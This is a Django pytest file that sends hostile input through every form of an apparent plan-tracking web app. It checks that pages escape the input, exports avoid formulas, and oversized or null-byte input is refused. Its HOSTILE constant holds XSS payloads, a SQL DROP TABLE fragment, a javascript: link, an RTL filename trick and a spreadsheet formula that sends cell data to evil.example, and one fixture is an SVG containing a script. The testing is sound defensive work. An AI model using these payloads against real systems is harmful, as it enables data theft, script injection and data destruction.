"""Hostile input through every form: script and markup, SQL fragments, formula injection,
null bytes, right-to-left overrides and huge values. Nothing breaks (no server error), nothing
runs (every page escapes it), nothing is lost silently (too-long text is refused with a
message), and every csv/xlsx download writes it as text, not as a formula. (The API has no
writes; its reads of the same data are checked too.)"""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from plantracker.plans.models import Action
from plantracker.updates.models import ProgressUpdate, ReportingPeriod
from tests.conftest import People
from tests.web.test_permissions import C13, LCC, PLAN, ROADMAP, membership_pk
from tests.web.test_permissions import world as world  # the fixture
from tests.web.test_query_counts import reads

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    "<script>alert('x')</script>"
    '"><img src=x onerror=alert(1)>'
    "'; DROP TABLE plans_action; --"
    " [link](javascript:alert(1)) \u202egnp.exe"
)
RAW = [
    "<script>alert('x')</script>",
    "<img src=x onerror",
    'href="javascript:',
]
SHORT = HOSTILE[:95]  # for fields of 100 characters


def posted(client: Client, url: str, data: dict[str, object]) -> int:
    """Post and return the status; a server error fails the test (the client re-raises)."""
    response = client.post(url, data)
    assert response.status_code < 500, (url, response.status_code)
    return response.status_code


def send_everything(world: People) -> Client:
    admin = Client()
    admin.force_login(world.admin)
    org_people = f"/organisations/{LCC}/people/"
    posted(admin, org_people, {"username": HOSTILE[:150], "password": "x" * 12, "role": "editor"})
    posted(admin, org_people, {"username": "mallory", "full_name": HOSTILE[:150],
                               "email": "m@example.org", "password": "a-long-password!",
                               "role": "contributor"})  # fmt: skip
    posted(admin, org_people + "invite/", {"full_name": HOSTILE[:150], "role": "contributor",
                                           "email": "h@example.org"})  # fmt: skip
    posted(admin, f"{PLAN}/periods/", {"label": SHORT, "meeting": HOSTILE, "report_of": HOSTILE})
    update = f"{PLAN}/actions/C1/updates/march-2024/"
    posted(admin, update, {"narrative": HOSTILE, "rag": "Red", "rag_reason": HOSTILE,
                           "version": "0", "submit": "1"})  # fmt: skip
    assert ProgressUpdate.objects.get(action__ref="C1", narrative=HOSTILE).status == "submitted"
    for ref in ("C1", "C13"):
        review = f"{PLAN}/actions/{ref}/updates/march-2024/review/"
        version = ProgressUpdate.objects.get(action__ref=ref, period__slug="march-2024").version
        posted(admin, review, {"decision": "approve", "comment": HOSTILE, "version": version})
    posted(admin, f"{PLAN}/report-text/", {"legal": HOSTILE, "contact_0_name": HOSTILE[:200]})
    posted(admin, f"{PLAN}/periods/march-2024/report-text/",
           {"agenda_item": HOSTILE[:200], "purpose": HOSTILE, "recommendations": HOSTILE,
            "contact_0_name": HOSTILE[:200], "contact_0_email": "a@example.org"})  # fmt: skip
    assert ReportingPeriod.objects.get(slug="march-2024").report_text["purpose"] == HOSTILE
    for step in ("close", "publish"):
        posted(admin, f"{PLAN}/periods/march-2024/{step}/", {})
    assert ReportingPeriod.objects.get(slug="march-2024").status == "published"
    posted(admin, f"{C13}/assign/", {"assignees": ["1 OR 1=1", HOSTILE]})
    kpi = f"/organisations/{LCC}/kpis/kpi-a/"
    posted(admin, kpi, {"period": SHORT[:50], "value": HOSTILE[:50]})
    posted(admin, kpi, {"period": "2023-24", "value": "12", "note": HOSTILE,
                        "source": HOSTILE[:300]})  # fmt: skip
    posted(admin, f"{ROADMAP}/?off=complex", {"name": HOSTILE[:200]})
    # The organisation's name on reports and its committees; an SVG logo with a script
    # (refused), then a harmless one, shown on the settings page as a preview.
    settings = f"/organisations/{LCC}/settings/"
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    logo = SimpleUploadedFile("logo.svg", svg.encode())
    assert posted(admin, settings, {"report_name": HOSTILE[:200], "logo": logo}) == 400
    harmless = b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect/></svg>'
    logo = SimpleUploadedFile(HOSTILE[:60] + ".svg", harmless)
    data = {"report_name": HOSTILE[:200], "committees": HOSTILE, "logo": logo}
    assert posted(admin, settings, data) == 302
    posted(Client(), "/sign-in/", {"username": HOSTILE, "password": HOSTILE})
    return admin


@pytest.mark.django_db
def test_hostile_text_is_stored_as_text_and_shown_escaped(world: People) -> None:
    actions = Action.objects.count()
    admin = send_everything(world)
    assert Action.objects.count() == actions  # the SQL fragment was only ever text
    extra = [
        (f"{PLAN}/actions/C1/", "admin"),
        (f"{PLAN}/actions/C1/updates/march-2024/", "admin"),
        (f"{PLAN}/periods/march-2024/report.html", "admin"),
        (f"{PLAN}/periods/march-2024/report-text/", "admin"),
        (f"{PLAN}/report-text/", "admin"),
        (f"{PLAN}/changes/?from=december-2023&to=march-2024", "admin"),
        (f"/organisations/{LCC}/people/", "admin"),
        (f"/organisations/{LCC}/settings/", "admin"),
        (f"{PLAN}/periods/march-2024/report.docx", "admin"),
        (f"{PLAN}/export.csv", "admin"),
        (f"{PLAN}/export.xlsx", "admin"),
        (f"{PLAN}/export.json", "admin"),
        (f"{PLAN}/periods/march-2024/report.xlsx", "admin"),
        (f"/organisations/{LCC}/kpis.xlsx", "admin"),
        (f"{ROADMAP}.xlsx", "admin"),
        ("/api/v1/plans/net-zero-communities/actions/C1", "admin"),
    ]
    shown = 0
    for url, _role in extra + [(u, r) for _n, u, r in reads()]:
        response = admin.get(url.format(membership=membership_pk()))
        assert response.status_code in (200, 302, 403, 404), url
        if response.status_code != 200:
            continue
        kind = response["Content-Type"]
        body = b"".join(response.streaming_content) if response.streaming else response.content
        if "html" in kind:
            text = body.decode()
            for raw in RAW:
                assert raw not in text, (url, raw)
            # Typed text is never in an attribute, but for the value of a form's own field
            # (an edit page shows what was typed, escaped): that one is left out of the search.
            fields = re.sub(r'<input([^>]*?)\svalue="[^"]*"', r"<input\1", text)
            assert not re.search(r"<[a-z][^>]*\son[a-z]+=", fields), url
            shown += "alert(&#x27;x&#x27;)" in text or "alert('x')" in text
        elif "csv" in kind:
            for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@")), (url, cell[:40])
        elif "spreadsheetml" in kind:
            wb = openpyxl.load_workbook(io.BytesIO(body))
            for ws in wb.worksheets:
                for row in ws.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", (url, ws.title, cell.coordinate)
    assert shown >= 6  # the text is there, escaped, on the pages that show it


@pytest.mark.django_db
def test_refusals_say_why_and_keep_nothing(world: People) -> None:
    admin = Client()
    admin.force_login(world.admin)
    update = f"{PLAN}/actions/C1/updates/march-2024/"
    huge = "x" * 25_000  # a pasted document
    response = admin.post(update, {"narrative": huge, "version": "0", "save": "1"})
    assert response.status_code == 200
    assert "Keep this to 20000 characters or fewer (it has 25000)" in response.content.decode()
    assert 'maxlength="20000"' not in response.content.decode()  # no silent cut on paste
    assert not ProgressUpdate.objects.filter(action__ref="C1", period__slug="march-2024").exists()

    response = admin.post(update, {"narrative": "nul\x00byte", "version": "0", "save": "1"})
    assert "Null characters are not allowed" in response.content.decode()
    assert not ProgressUpdate.objects.filter(action__ref="C1", period__slug="march-2024").exists()

    enormous = "x" * 3_000_000  # over the 2.5 MB a form may send
    response = admin.post(update, {"narrative": enormous, "version": "0", "save": "1"})
    assert response.status_code == 400
    assert "The request could not be read" in response.content.decode()
    assert not ProgressUpdate.objects.filter(action__ref="C1", period__slug="march-2024").exists()

    many = {f"f{i}": "1" for i in range(1_500)}  # over the 1,000 fields a form may send
    assert admin.post(update, {**many, "version": "0"}).status_code == 400
